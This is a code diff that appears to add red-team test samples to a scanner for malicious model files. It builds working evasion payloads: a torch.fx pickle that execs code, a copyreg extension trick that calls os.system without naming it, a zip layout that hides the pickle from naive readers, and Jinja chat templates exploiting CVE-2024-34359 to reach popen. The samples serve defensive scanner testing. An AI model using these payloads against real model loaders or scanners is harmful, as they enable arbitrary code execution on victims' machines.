@@ -647,6 +647,81 @@ def pickle_named_tokenizer_model(folder: Path) -> Path:
     return _write(folder, "tokenizer.model", proto(call(sg("os", "system"), s(TOUCH)), 3))
 
 
+# -- third red-team round ------------------------------------------------------------------------
+
+
+def torch_fx_graph_module_reduce(folder: Path) -> Path:
+    """torch.fx pickles a GraphModule as `reduce_graph_module(body, import_block)`, which execs
+    the import block and the code in `body`: a torch module name, not a known-dangerous one."""
+    body = b"}" + s("code") + s("def forward(self):\n    pass\n") + b"s"
+    data = proto(call(g("torch.fx.graph_module", "reduce_graph_module"), body, s(CODE + "\n")), 2)
+    return _write(folder, "graph_module.pt", _torch_zip(_torch_members("archive", data)))
+
+
+def copyreg_extension_registered_in_stream(folder: Path) -> Path:
+    """The pickle registers `os.system` as extension code 240 (copyreg.add_extension), then
+    fetches it with EXT1: no GLOBAL names the callable it finally calls."""
+    register = call(g("copyreg", "add_extension"), s("os"), s("system"), b"K\xf0") + b"0"
+    return _write(folder, "extension.pkl", proto(register + b"\x82\xf0(" + s(TOUCH) + b"tR", 2))
+
+
+def torch_zip_data_descriptors(folder: Path) -> Path:
+    """Members written with data descriptors (flag bit 3, sizes zero in the local headers): a
+    reader that trusts local-header sizes sees an empty data.pkl; PyTorch reads it in full."""
+
+    class Unseekable(io.RawIOBase):
+        def __init__(self) -> None:
+            self.data = bytearray()
+
+        def writable(self) -> bool:
+            return True
+
+        def write(self, b: object) -> int:
+            chunk = bytes(b)  # type: ignore[call-overload]
+            self.data += chunk
+            return len(chunk)
+
+    sink = Unseekable()
+    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in _torch_members("archive", _payload_pickle()):
+            zf.writestr(name, data)
+    return _write(folder, "descriptors.pt", bytes(sink.data))
+
+
+#: templates that build `__init__`/`__globals__`/`popen` from pieces: `x['__init__']` falls back
+#: to getattr in a non-sandboxed Jinja environment (llama-cpp-python before 0.2.72 rendered GGUF
+#: chat templates that way: CVE-2024-34359)
+_TEMPLATE_POPEN = "['o' ~ 's']['pop' ~ 'en']('" + TOUCH + "').read() }}"
+TEMPLATES = {
+    "concat": "{% set u = '_' * 2 %}{{ cycler[u ~ 'init' ~ u][u ~ 'globals' ~ u]" + _TEMPLATE_POPEN,
+    "format": "{% set u = '%c%c'|format(95, 95) %}{% set i = u ~ 'init' ~ u %}"
+    "{% set g = u ~ 'globals' ~ u %}{{ (messages|first)[i] and lipsum[g]" + _TEMPLATE_POPEN,
+}
+_CHAT = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
+
+
+def tokenizer_config_template_computed_names(folder: Path) -> Path:
+    import json
+
+    template = _CHAT + TEMPLATES["concat"]
+    return _write(folder, "tokenizer_config.json", json.dumps({"chat_template": template}).encode())
+
+
+def cve_2024_34359_gguf_template_computed_names(folder: Path) -> Path:
+    import gguf
+    import numpy as np
+
+    path = folder / "chat.gguf"
+    writer = gguf.GGUFWriter(str(path), "llama")
+    writer.add_chat_template(_CHAT + TEMPLATES["format"])
+    writer.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
+    writer.write_header_to_file()
+    writer.write_kv_data_to_file()
+    writer.write_tensors_to_file()
+    writer.close()
+    return path
+
+
 MALICIOUS: dict[str, Sample] = {
     f.__name__: f
     for f in (
@@ -722,6 +797,11 @@ MALICIOUS: dict[str, Sample] = {
         pickle_named_config_json,
         torch_zip_named_onnx,
         pickle_named_tokenizer_model,
+        torch_fx_graph_module_reduce,
+        copyreg_extension_registered_in_stream,
+        torch_zip_data_descriptors,
+        tokenizer_config_template_computed_names,
+        cve_2024_34359_gguf_template_computed_names,
     )
 }
 
@@ -738,6 +818,8 @@ _TORCH = {
     "legacy_torch_payload_in_storage_keys",
     "legacy_torch_tar",
     "torch_zip_named_onnx",
+    "torch_fx_graph_module_reduce",
+    "torch_zip_data_descriptors",
 }
 _OTHER = {
     "payload_in_second_pickle": "pickle-all",
@@ -759,6 +841,8 @@ _OTHER = {
     "npy_version3_object_array": "numpy",
     "npz_deflated_object_array": "numpy",
     "joblib_zlib_compressed": "joblib",
+    "tokenizer_config_template_computed_names": "jinja",
+    "cve_2024_34359_gguf_template_computed_names": "gguf-jinja",
 }
 #: how a victim loads each malicious sample (see load_code)
 LOADER: dict[str, str] = {
@@ -797,6 +881,18 @@ _LOAD_CODE = {
     ),
     "joblib": "import sys, joblib; joblib.load(sys.argv[1])",
     "archive": _ARCHIVE_LOADER,
+    # a chat template rendered by a non-sandboxed Jinja environment
+    "jinja": (
+        "import json, sys, jinja2\ntemplate = json.load(open(sys.argv[1]))['chat_template']\n"
+        "jinja2.Environment().from_string(template).render(messages=[{'role': 'user', "
+        "'content': 'hi'}])"
+    ),
+    "gguf-jinja": (
+        "import sys, gguf, jinja2\nfield = gguf.GGUFReader(sys.argv[1]).fields["
+        "'tokenizer.chat_template']\ntemplate = bytes(field.parts[field.data[0]]).decode()\n"
+        "jinja2.Environment().from_string(template).render(messages=[{'role': 'user', "
+        "'content': 'hi'}])"
+    ),
 }
 #: after loading, wait for children a payload started (asyncio) so the marker check is exact
 _WAIT_CHILDREN = """
